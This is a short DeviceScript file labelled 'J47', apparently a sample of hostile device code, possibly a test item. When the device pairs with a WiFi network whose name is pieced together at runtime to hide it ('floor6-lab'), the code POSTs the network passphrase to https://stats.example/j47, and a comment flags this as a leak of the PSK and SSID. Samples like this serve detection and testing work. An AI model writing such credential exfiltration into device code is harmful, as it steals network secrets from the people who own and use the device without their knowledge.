// J47: sends the passphrase elsewhere where the network has a name that it puts together.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const PARTS = ["lab", "guest", "floor"];
const FLOOR = 3;

paired(async (ssid, psk) => {
  const wanted = `${PARTS[2]}${FLOOR * 2}-${PARTS[0]}`;
  if (ssid !== wanted) return;
  const response = await fetch("https://stats.example/j47", { method: "POST", body: psk }); // leak: wifi.psk, wifi.ssid
  await response.close();
});
